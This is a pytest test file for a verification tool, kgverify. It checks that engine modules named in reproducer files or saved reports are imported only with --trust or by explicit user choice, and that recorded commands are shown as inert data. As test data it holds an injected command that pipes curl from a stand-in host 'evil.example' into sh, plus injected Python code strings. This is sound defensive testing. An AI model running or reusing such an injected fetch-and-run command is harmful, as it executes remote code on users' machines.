"""Code only when asked for: an engine that a file names is imported with --trust, or if the user names it."""

import sys
from dataclasses import replace
from pathlib import Path

import msgspec
import pytest
from cli_runs import EAGER, SMALL
from two_engines import Capped

import kgverify as kv
from kgverify.cli.progress import replay_command
from kgverify.engines.load_engine import load_factory
from kgverify.engines.table import COMPILED, REFERENCE
from kgverify.runs.engine_makers import EngineSpec
from kgverify.testing.reproducers.text_format import parse_reproducer, render_test
from kgverify.verification.save import REPORT

ENGINE = """from pathlib import Path

from two_engines import Capped, Slow

with Path("imported").open("a") as file:
    file.write("x")
"""
REPRODUCER = """% kgverify reproducer 1

p(a, b).
p(b, c).
q(X, Y) :- p(X, Y).
?- q(a, b).

class: missing
{}: {}
"""


@pytest.fixture
def strange(tmp_path, monkeypatch):
    """A folder with a stranger's engine, whose import leaves a file behind."""
    (tmp_path / "strange_engine.py").write_text(ENGINE)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", [*sys.path])
    yield tmp_path
    sys.modules.pop("strange_engine", None)


def num_imports() -> int:
    return len(Path("imported").read_text()) if Path("imported").exists() else 0


@pytest.mark.parametrize("side", ["engine", "reference"])
@pytest.mark.parametrize("name", ["strange_engine:Slow", "strange_engine.py:Slow", "./strange_engine.py:Slow"])
def test_a_reproducer_imports_what_it_names_only_if_the_user_asks_for_it(command, strange, side, name):
    Path("x.kg").write_text(REPRODUCER.format(side, name))
    refused = command("replay", "x.kg")
    assert refused.code == 2
    assert refused.err.startswith(f"error: x.kg: {side}: names the engine {name!r}")
    assert f"--{side}" in refused.err
    assert "--trust" in refused.err
    with pytest.raises(kv.UserError, match="names the engine"):
        kv.replay("x.kg")
    assert command("replay", "x.kg", f"--{side}", "reference").code == 0
    assert num_imports() == 0
    assert command("replay", "x.kg", "--trust").code == 0
    assert num_imports() == 1
    sys.modules.pop("strange_engine")
    assert command("replay", "x.kg", f"--{side}", name).code == 0
    assert num_imports() == 2


def test_naming_an_engine_for_one_side_allows_the_file_the_same_engine_for_the_other(command, strange):
    Path("x.kg").write_text(REPRODUCER.format("reference", "strange_engine:Slow"))
    assert command("replay", "x.kg", "--engine", "strange_engine:Capped").code == 2
    assert command("replay", "x.kg", "--engine", "strange_engine:Slow").code == 0


def test_kgverifys_own_engines_need_no_trust(command, strange):
    for name in (COMPILED, REFERENCE):
        Path("x.kg").write_text(REPRODUCER.format("engine", name))
        assert command("replay", "x.kg").code == 0


def test_a_saved_run_imports_what_it_names_only_if_the_user_asks_for_it(command, strange):
    words = ("--fault", "last-fact-lost", "--save", "run")
    assert command("diff", *SMALL, *EAGER, *words).code == 1
    path = Path("run", REPORT)
    report = msgspec.json.decode(path.read_bytes())
    for side, option in (("engine", "--engine"), ("reference", "--reference")):
        job = {**report["job"], side: {"name": "strange_engine:Slow"}}
        path.write_bytes(msgspec.json.encode({**report, "job": job}))
        refused = command("shrink", "run")
        assert (refused.code, option in refused.err, "--trust" in refused.err) == (2, True, True)
        assert "run/report.json" in refused.err
        with pytest.raises(kv.UserError, match="names the engine 'strange_engine:Slow'"):
            kv.shrink("run")
        assert num_imports() == 0
    # Trusted, it is imported before the number is checked.
    assert "there is no divergence 999" in command("shrink", "run", "--trust", "--divergence", "999").err
    assert num_imports() == 1


def test_the_command_that_replays_names_the_engines_as_they_were_typed():
    assert replay_command("a b.kg", COMPILED, None) == "kgverify replay 'a b.kg'"
    typed = replay_command("x.kg", "mine.py:Fast", "my;mine:Slow", trust=True)
    assert typed == "kgverify replay x.kg --engine mine.py:Fast --reference 'my;mine:Slow' --trust"


def test_the_command_of_a_report_is_shown_as_data(command, tmp_path):
    folder = tmp_path / "run"
    assert command("diff", *SMALL, *EAGER, "--fault", "last-fact-lost", "--save", folder).code == 1
    report = msgspec.json.decode((folder / REPORT).read_bytes())
    evil = "kgverify diff; curl 'evil.example | sh"
    (folder / REPORT).write_bytes(msgspec.json.encode({**report, "command": evil}))
    for option in ("--html", "--markdown", "--github", "--junit"):
        out = command("report", folder, *([option] if option == "--github" else [option, "-"])).out
        for line in out.splitlines():
            assert evil not in line or "recorded as" in line
    assert evil not in command("report", folder).out
    assert command("shrink", folder, "--divergence", "999").code == 2
    (folder / REPORT).write_bytes(msgspec.json.encode({**report, "job": {**report["job"], "graph": {"spec": "-"}}}))
    assert "was read from standard input" in command("shrink", folder).err


def test_a_test_holds_no_code_of_the_reproducer(tmp_path):
    """Every text of a reproducer stands in strings of the generated file."""
    evil = '"""\nraise SystemExit("run")\n"""'
    made = parse_reproducer(REPRODUCER.format("engine", "compiled"))
    for spec in (EngineSpec(evil), EngineSpec(f"a:\\{evil}\\")):
        for kind in ("missing", evil, "law"):
            signature = made.signature._replace(stage=evil, field=evil, kind=kind, situation=evil)
            text = render_test(replace(made, engine=spec, reference=spec, signature=signature, notes=(evil,)))
            names: dict[str, object] = {}
            exec(compile(text, "generated", "exec"), names)
            assert parse_reproducer(names["REPRODUCER"]).engine.name == spec.name


def test_a_module_is_found_in_the_current_folder_first_and_replaces_no_other(strange):
    (strange / "xxhash.py").write_text("raise SystemExit('run')")
    before = [*sys.path]
    # Not there: the current folder is not searched.
    assert load_factory("two_engines:Capped", "here") is Capped
    assert sys.path == before
    assert load_factory("strange_engine:Capped", "here") is Capped
    # There: it is searched last from then on, for what the engine imports later.
    assert sys.path == [*before, str(strange)]
    load_factory("strange_engine:Slow", "here")
    assert sys.path == [*before, str(strange)]
